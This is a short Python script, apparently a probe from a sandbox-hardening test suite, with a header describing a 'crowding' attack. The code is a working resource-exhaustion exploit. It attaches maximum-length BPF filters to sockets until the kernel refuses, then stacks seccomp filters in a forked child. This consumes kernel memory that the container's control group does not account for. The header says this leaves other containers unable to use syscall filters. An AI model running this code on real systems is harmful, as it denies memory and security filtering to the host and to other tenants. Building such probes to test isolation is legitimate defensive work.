# family = "crowding"
# tries = "Sockets and processes get filters of 4,000 instructions: the kernel compiles each, keeps a copy that is charged to nobody, and has one room for the compiled ones of all boxes."
# could_earn = "The machine's memory, and everybody else's boxes: none can have its filter of system calls any more."
# undefended = "LEAK: 1,021 filters of sockets and 8 of a process: 40 MB of the kernel's memory that the box's control group did not show."
# boxed_only = true

# %% extra
import ctypes
import os
import socket
import struct

libc = ctypes.CDLL(None, use_errno=True)
LENGTH, SO_ATTACH_FILTER, PR_SET_SECCOMP = 4000, 26, 22


def program(returned):
    code = struct.pack("HBBI", 4, 0, 0, 1) * (LENGTH - 1) + struct.pack("HBBI", 6, 0, 0, returned)
    kept = ctypes.create_string_buffer(code, len(code))
    return kept, struct.pack("HxxxxxxP", LENGTH, ctypes.addressof(kept))


held, of_sockets = [], 0
code, filter_of_socket = program(0xFFFF)
try:
    while True:
        held.append(socket.socket(socket.AF_INET, socket.SOCK_DGRAM))
        held[-1].setsockopt(socket.SOL_SOCKET, SO_ATTACH_FILTER, filter_of_socket)
        of_sockets += 1
except OSError:
    held.clear()
code, filter_of_calls = program(0x7FFF0000)
of_calls = 0
reading, writing = os.pipe()
if os.fork() == 0:
    while of_calls < 8 and libc.prctl(PR_SET_SECCOMP, 2, ctypes.c_char_p(filter_of_calls), 0, 0) == 0:
        of_calls += 1
    os.write(writing, b"%d" % of_calls)
    os._exit(0)
of_calls = int(os.read(reading, 100))
print("LEAK:" if of_sockets or of_calls else "none", of_sockets, "filters of sockets and", of_calls, "of a process")
